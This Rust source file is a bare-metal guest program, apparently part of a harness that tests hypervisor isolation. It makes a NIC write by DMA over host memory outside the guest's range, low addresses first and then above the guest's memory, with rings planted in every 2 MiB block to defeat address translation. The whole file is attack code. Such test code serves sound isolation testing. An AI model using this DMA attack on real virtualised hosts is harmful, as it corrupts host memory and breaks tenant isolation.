//! Has its NIC write DWORDs over memory that is not the guest's: first low addresses, where a host likes to be,
//! then everything above the guest's memory.
//!
//! The guest does not know whether its addresses are the NIC's. If they are not, the NIC reads another part of the
//! guest's memory than it is told, at some multiple of 2 MiB away; so the ring is at the same place in every 2 MiB.

#![no_std]
#![no_main]

use attacks::Machine;
use attacks::nic::{Nic, Ring};
use kit::frames::{LARGE_PAGE, PAGE};

attacks::guest!(run);

/// Where the ring is in each 2 MiB.
const PLACE: u64 = 0x10_0000;
/// The ring: eight descriptors, the fewest there are, one of which is used.
const SIZE: u64 = 8;
/// Low targets.
const LOW: core::ops::Range<u64> = 0x20_0000..0x80_0000;
/// How far above the guest's memory it goes.
const HIGH: u64 = 64 << 20;

fn run(mut machine: Machine) -> ! {
    let nic = Nic::start();
    let ring = rings(&mut machine).expect("no memory for rings");
    machine.alive();
    loop {
        let low = LOW.step_by(PAGE as usize);
        let high = (machine.memory_end..machine.memory_end + HIGH).step_by(PAGE as usize);
        low.chain(high).for_each(|address| nic.write_dword(&ring, address));
    }
}

/// Writes a copy of the ring into each 2 MiB of free memory. The one in the middle is the one to use.
fn rings(machine: &mut Machine) -> Option<Ring> {
    let (start, end) = machine.frames.range();
    let middle = (start + end) / 2 / LARGE_PAGE * LARGE_PAGE + PLACE;
    let mut ring = None;
    for block in
        (start.next_multiple_of(LARGE_PAGE)..end.saturating_sub(LARGE_PAGE)).step_by(LARGE_PAGE as usize)
    {
        let copy = Ring::write(block + PLACE, middle, SIZE, 1);
        ring = Some(copy);
    }
    ring
}
